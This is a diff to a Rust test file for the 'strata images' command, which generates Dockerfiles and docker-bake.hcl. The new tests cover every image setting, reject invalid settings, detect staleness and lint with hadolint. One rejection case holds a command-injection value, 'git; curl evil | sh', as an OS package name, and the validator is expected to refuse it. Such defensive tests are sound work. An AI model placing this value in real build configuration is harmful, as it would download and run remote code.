@@ -1,5 +1,6 @@
-//! `strata images`: the engines' images and the generated `docker-bake.hcl`, kept current in
-//! the example and checked for staleness.
+//! `strata images`: the project's images, the Dockerfiles strata writes and the generated
+//! `docker-bake.hcl`, kept current in the example and checked for staleness, with real parsers
+//! (python-hcl2) and linters (hadolint) as oracles. The real builds are in `lock::images`.
 
 use std::path::Path;
 
@@ -10,6 +11,41 @@ use crate::support::{Project, example_project};
 const GENERATED_ENGINE: &str = "[profiles.base]\nrequirements = [\"numpy\"]\n\
     [engines.hf]\nextends = [\"base\"]\nversion = { file = \"v.yaml\", key = \"v\" }\n\
     image = { base = \"python:3.12-slim-bookworm\" }\n";
+
+/// A project with every `[tool.strata.images]` setting: a role image with a dev stage on the
+/// CPU base, a GPU engine on the GPU base whose lock needs the SSH agent.
+const EVERY_SETTING: &str = "[images]\n\
+    repository = \"registry.internal:5000/team/app\"\n\
+    cpu-base = \"python:3.12-slim-bookworm\"\n\
+    gpu-base = \"nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04\"\n\
+    os-packages = [\"git\", \"git-lfs=3.3.0-1\"]\n\
+    ca-bundle = \"certs/trust.pem\"\n\
+    cache = \"registry.internal:5000/team/app-cache\"\n\
+    platforms = [\"linux/amd64\", \"linux/arm64\"]\n\
+    source = \"https://example.org/team/app\"\n\
+    [profiles.base]\nrequirements = [\"numpy\"]\n\
+    [profiles.backend]\nextends = [\"base\"]\nrequirements = [\"fastapi\"]\n\
+    image = { dev = \"development\" }\n\
+    [profiles.development]\nextends = [\"backend\"]\nrequirements = [\"pytest\"]\n\
+    [engines.hf]\nextends = [\"base\"]\nversion = { file = \"v.yaml\", key = \"v\" }\n\
+    gpu = true\nimage = {}\n";
+
+/// [`EVERY_SETTING`]'s files, the engine's lock holding a `git+ssh` requirement.
+fn every_setting() -> Project {
+    Project::new(&[
+        ("strata.toml", EVERY_SETTING),
+        ("v.yaml", "v: \"1.0+cu124\"\n"),
+        (
+            "certs/trust.pem",
+            "-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n",
+        ),
+        (
+            "locks/hf.txt",
+            "# strata-fingerprint: 0123\nprivate @ git+ssh://git@example.org/org/private.git@0123abcd\n",
+        ),
+        ("src/app/__init__.py", ""),
+    ])
+}
 
 #[test]
 fn the_examples_bake_file_is_current_and_lists_each_engines_image() {
@@ -25,21 +61,33 @@ fn the_examples_bake_file_is_current_and_lists_each_engines_image() {
     assert_eq!(output.code, 0, "{}", output.render());
     let lines: Vec<&str> = output.stdout.lines().collect();
     assert!(
-        lines[0].starts_with("transformers     llmbench:transformers-"),
+        lines[0].starts_with("backend          llmbench:backend-0.4.0  (its lock on python:")
+            && lines[0].ends_with("dev stage llmbench:backend-0.4.0-dev adds development)"),
+        "{lines:?}"
+    );
+    assert!(lines[1].starts_with("quantization") && lines[1].ends_with(", GPU)"));
+    assert!(
+        lines[2].starts_with("transformers     llmbench:transformers-"),
         "{lines:?}"
     );
     assert!(
-        lines[1].contains("vllm/vllm-openai:v") && lines[1].contains("upstream, run as it is, GPU")
+        lines[3].contains("vllm/vllm-openai:v") && lines[3].contains("upstream, run as it is, GPU")
     );
     assert_eq!(lines.last().unwrap(), &"docker-bake.hcl: current");
+    assert!(lines.contains(&"docker/backend.Dockerfile.dockerignore: current"));
 
     let output = project.strata(&["images", "--format", "json"]).output();
     let json: serde_json::Value = serde_json::from_str(&output.stdout).unwrap();
     assert_eq!(json["schema-version"], 1);
     assert_eq!(json["repository"], "llmbench");
     assert_eq!(json["bake-status"], "current");
-    assert_eq!(json["engines"][0]["source"]["kind"], "dockerfile");
-    assert_eq!(json["engines"][1]["source"]["kind"], "upstream");
+    assert_eq!(json["images"][0]["name"], "backend");
+    assert_eq!(json["images"][0]["engine"], false);
+    assert_eq!(json["images"][0]["source"]["kind"], "generated");
+    assert_eq!(json["images"][0]["source"]["dev"]["profile"], "development");
+    assert_eq!(json["images"][2]["source"]["kind"], "dockerfile");
+    assert_eq!(json["images"][3]["source"]["kind"], "upstream");
+    assert_eq!(json["files"].as_array().unwrap().len(), 5);
 }
 
 #[test]
@@ -202,9 +250,32 @@ fn the_bake_file_parses_with_a_real_hcl_parser_and_says_what_strata_planned() {
     assert_eq!(bake["variable"]["TRANSFORMERS_VERSION"]["default"], version);
     assert_eq!(
         bake["group"]["default"]["targets"],
-        serde_json::json!(["transformers"])
+        serde_json::json!(["backend", "quantization", "transformers"])
     );
-    assert_eq!(bake["group"]["gpu"]["targets"], serde_json::json!([]));
+    assert_eq!(
+        bake["group"]["gpu"]["targets"],
+        serde_json::json!(["quantization"])
+    );
+    assert_eq!(
+        bake["group"]["dev"]["targets"],
+        serde_json::json!(["backend-dev"])
+    );
+    assert_eq!(
+        bake["target"]["_common"]["platforms"],
+        serde_json::json!(["linux/amd64"])
+    );
+    let backend = &bake["target"]["backend-dev"];
+    assert_eq!(backend["dockerfile"], "docker/backend.Dockerfile");
+    assert_eq!(backend["target"], "dev");
+    assert_eq!(
+        backend["contexts"],
+        serde_json::json!({ "base": "docker-image://python:3.11-slim-bookworm" })
+    );
+    assert_eq!(
+        backend["tags"],
+        serde_json::json!(["${REPOSITORY}:backend-${VERSION}-dev"])
+    );
+    assert_eq!(bake["variable"]["VERSION"]["default"], "0.4.0");
     let target = &bake["target"]["transformers"];
     assert_eq!(target["dockerfile"], "docker/Dockerfile.transformers");
     assert_eq!(
@@ -232,14 +303,198 @@ fn the_bake_file_parses_with_a_real_hcl_parser_and_says_what_strata_planned() {
 }
 
 #[test]
+fn every_images_setting_reaches_the_bake_file_and_the_dockerfiles() {
+    let Some(python) = image_tool("python") else {
+        return;
+    };
+    let project = every_setting();
+    let output = project.strata(&["images", "--write"]).output();
+    assert_eq!(output.code, 0, "{}", output.render());
+    let bake = parse_hcl(&python, &project.dir().join("docker-bake.hcl"));
+    let common = &bake["target"]["_common"];
+    assert_eq!(common["context"], ".");
+    assert_eq!(
+        common["platforms"],
+        serde_json::json!(["linux/amd64", "linux/arm64"])
+    );
+    assert_eq!(
+        common["labels"]["org.opencontainers.image.source"],
+        "https://example.org/team/app"
+    );
+    assert_eq!(
+        common["labels"]["org.opencontainers.image.revision"],
+        "REVISION"
+    );
+    assert_eq!(
+        bake["variable"]["REPOSITORY"]["default"],
+        "registry.internal:5000/team/app"
+    );
+    assert_eq!(bake["variable"]["HF_VERSION"]["default"], "1.0+cu124");
+    assert_eq!(
+        bake["group"]["default"]["targets"],
+        serde_json::json!(["backend", "hf"])
+    );
+    assert_eq!(
+        bake["group"]["cpu"]["targets"],
+        serde_json::json!(["backend"])
+    );
+    assert_eq!(bake["group"]["gpu"]["targets"], serde_json::json!(["hf"]));
+    assert_eq!(
+        bake["group"]["dev"]["targets"],
+        serde_json::json!(["backend-dev"])
+    );
+    // Target by target: Dockerfile, stage, base, tags, caches, secret, SSH.
+    let expect = [
+        (
+            "backend",
+            "docker/backend.Dockerfile",
+            "runtime",
+            "python:3.12-slim-bookworm",
+            "${REPOSITORY}:backend",
+            false,
+        ),
+        (
+            "backend-dev",
+            "docker/backend.Dockerfile",
+            "dev",
+            "python:3.12-slim-bookworm",
+            "${REPOSITORY}:backend-dev",
+            false,
+        ),
+        (
+            "hf",
+            "docker/hf.Dockerfile",
+            "runtime",
+            "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04",
+            "${REPOSITORY}:hf-${HF_VERSION}",
+            true,
+        ),
+    ];
+    for (name, dockerfile, stage, base, tag, ssh) in expect {
+        let target = &bake["target"][name];
+        assert_eq!(target["dockerfile"], dockerfile, "{name}");
+        assert_eq!(target["target"], stage, "{name}");
+        assert_eq!(
+            target["contexts"],
+            serde_json::json!({ "base": format!("docker-image://{base}") }),
+            "{name}"
+        );
+        assert_eq!(target["tags"], serde_json::json!([tag]), "{name}");
+        let cache = format!("registry.internal:5000/team/app-cache:buildcache-{name}");
+        assert_eq!(
+            target["cache-from"],
+            serde_json::json!([format!("type=registry,ref={cache}")]),
+            "{name}"
+        );
+        assert_eq!(
+            target["cache-to"],
+            serde_json::json!([format!(
+                "type=registry,ref={cache},mode=max,ignore-error=true"
+            )]),
+            "{name}"
+        );
+        assert_eq!(
+            target["secret"],
+            serde_json::json!(["id=pip-conf,env=STRATA_PIP_CONF"]),
+            "{name}"
+        );
+        assert_eq!(
+            target.get("ssh").cloned(),
+            ssh.then(|| serde_json::json!(["default"])),
+            "{name}"
+        );
+        assert!(target.get("args").is_none(), "{name}");
+    }
+    // No static project version: the role image is tagged with its name alone.
+    assert!(bake["variable"].get("VERSION").is_none());
+
+    let backend = project.read("docker/backend.Dockerfile");
+    for line in [
+        "FROM base AS system\n",
+        "COPY certs/trust.pem /usr/local/share/ca-certificates/strata-ca-bundle.crt\n",
+        "RUN update-ca-certificates\n",
+        "ENV PIP_CERT=/etc/ssl/certs/ca-certificates.crt \\\n",
+        "FROM system AS builder\n",
+        "--mount=type=bind,source=locks/backend.txt,target=/tmp/lock.txt",
+        "FROM system AS runtime\n",
+        "    PYTHONPATH=/workspace/src\n",
+        "FROM runtime AS dev\n",
+        "--mount=type=bind,source=locks/development.txt,target=/tmp/lock.txt",
+    ] {
+        assert!(backend.contains(line), "no `{line}` in\n{backend}");
+    }
+    // The CA bundle needs update-ca-certificates: apt installs it with the other packages.
+    assert!(
+        backend.contains("       ca-certificates git git-lfs=3.3.0-1"),
+        "{backend}"
+    );
+    assert!(!backend.contains("type=ssh"), "{backend}");
+    let hf = project.read("docker/hf.Dockerfile");
+    assert!(hf.contains("    --mount=type=ssh \\\n"), "{hf}");
+    assert!(!hf.contains("AS dev"), "{hf}");
+    assert_eq!(
+        project.read("docker/backend.Dockerfile.dockerignore"),
+        "# Generated by `strata images --write` with docker/backend.Dockerfile: its build reads only\n\
+         # these files.\n*\n!locks/backend.txt\n!locks/development.txt\n!certs/trust.pem\n"
+    );
+}
+
+#[test]
+fn images_settings_that_would_break_a_build_are_rejected_with_their_line() {
+    let cases: &[(&str, &str, &str)] = &[
+        (
+            "os-packages = [\"git\", \"git-lfs=3.3.0-1\"]",
+            "os-packages = [\"git; curl evil | sh\"]",
+            "Invalid images.os-packages `git; curl evil | sh`",
+        ),
+        (
+            "platforms = [\"linux/amd64\", \"linux/arm64\"]",
+            "platforms = [\"amd64\"]",
+            "Invalid images.platforms `amd64`",
+        ),
+        (
+            "ca-bundle = \"certs/trust.pem\"",
+            "ca-bundle = \"certs/missing.pem\"",
+            "no such file",
+        ),
+        (
+            "gpu-base = \"nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04\"\n",
+            "",
+            "`[tool.strata.images]` has no `gpu-base`",
+        ),
+        (
+            "image = { dev = \"development\" }",
+            "image = { dev = \"base\" }",
+            "`base` does not extend `backend`",
+        ),
+        (
+            "image = { dev = \"development\" }",
+            "image = { upstream = \"python:{version}\" }",
+            "Unknown key `upstream` in `profiles.backend.image`",
+        ),
+    ];
+    for (old, new, message) in cases {
+        let project = every_setting();
+        project.edit("strata.toml", old, new);
+        let output = project.strata(&["images"]).output();
+        assert_eq!(output.code, 2, "{new}: {}", output.render());
+        assert!(
+            output.stderr.contains(message) && output.stderr.contains("strata.toml:"),
+            "{new}: {}",
+            output.render()
+        );
+    }
+}
+
+#[test]
 fn check_detects_each_kind_of_staleness_and_write_makes_it_current_again() {
     // Each edit changes one input of the bake file: the repository, a Dockerfile's declared
     // arguments, the lock (its fingerprint label), the base image.
     let edits: &[(&str, &str, &str)] = &[
         (
             "pyproject.toml",
-            "[tool.strata]\n",
-            "[tool.strata]\nimages = { repository = \"team/llmbench\" }\n",
+            "repository = \"llmbench\"",
+            "repository = \"team/llmbench\"",
         ),
         (
             "docker/Dockerfile.transformers",
@@ -253,8 +508,19 @@ fn check_detects_each_kind_of_staleness_and_write_makes_it_current_again() {
         ),
         (
             "pyproject.toml",
-            "base = \"pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime\"",
-            "base = \"pytorch/pytorch:2.6.0-cuda12.4-cudnn9-runtime\"",
+            "Dockerfile.transformers\", base = \"pytorch/pytorch:2.5.1-",
+            "Dockerfile.transformers\", base = \"pytorch/pytorch:2.6.0-",
+        ),
+        (
+            "pyproject.toml",
+            "os-packages = [\"git\", \"git-lfs\"]",
+            "os-packages = [\"git\"]",
+        ),
+        ("pyproject.toml", "dev = \"development\"", "dev = \"build\""),
+        (
+            "docker/backend.Dockerfile.dockerignore",
+            "!locks/development.txt\n",
+            "",
         ),
     ];
     for (file, old, new) in edits {
@@ -272,36 +538,53 @@ fn check_detects_each_kind_of_staleness_and_write_makes_it_current_again() {
 }
 
 #[test]
-fn the_generated_dockerfile_lints_clean_with_hadolint() {
+fn the_generated_dockerfiles_lint_clean_with_hadolint() {
     let Some(hadolint) = image_tool("hadolint") else {
         return;
     };
-    let project = Project::new(&[
+    // Every shape: the plain one; one with a system stage, a dev stage and the SSH agent; and
+    // the example's.
+    let plain = Project::new(&[
         ("strata.toml", GENERATED_ENGINE),
         ("v.yaml", "v: \"1.0\"\n"),
         ("src/hf/__init__.py", ""),
     ]);
-    let output = project.strata(&["images", "--write"]).output();
-    assert_eq!(output.code, 0, "{}", output.render());
-    let bake = project.read("docker-bake.hcl");
+    let every = every_setting();
+    let example = Project::copy_of(&example_project());
+    let mut linted = 0;
+    for project in [&plain, &every, &example] {
+        let output = project.strata(&["images", "--write"]).output();
+        assert_eq!(output.code, 0, "{}", output.render());
+        for entry in fs_err::read_dir(project.dir().join("docker")).unwrap() {
+            let path = entry.unwrap().path();
+            let text = fs_err::read_to_string(&path).unwrap();
+            if !text.contains("Generated by `strata images --write` for") {
+                continue;
+            }
+            // Nothing at all, not even at the info level.
+            let lint = std::process::Command::new(&hadolint)
+                .args(["--no-color", "--failure-threshold", "info"])
+                .arg(&path)
+                .output()
+                .unwrap();
+            assert!(
+                lint.status.success() && lint.stdout.is_empty(),
+                "{}: {}{}",
+                path.display(),
+                String::from_utf8_lossy(&lint.stdout),
+                String::from_utf8_lossy(&lint.stderr)
+            );
+            linted += 1;
+        }
+    }
+    assert_eq!(linted, 5, "hf; backend and hf; backend and quantization");
+    let bake = plain.read("docker-bake.hcl");
     assert!(
         bake.contains("  target      = \"runtime\"\n")
             && bake.contains(
                 "  contexts    = { base = \"docker-image://python:3.12-slim-bookworm\" }\n"
             ),
         "{bake}"
-    );
-    // Nothing at all, not even at the info level.
-    let lint = std::process::Command::new(hadolint)
-        .args(["--no-color", "--failure-threshold", "info"])
-        .arg(project.dir().join("docker/hf.Dockerfile"))
-        .output()
-        .unwrap();
-    assert!(
-        lint.status.success() && lint.stdout.is_empty(),
-        "{}{}",
-        String::from_utf8_lossy(&lint.stdout),
-        String::from_utf8_lossy(&lint.stderr)
     );
 }
 
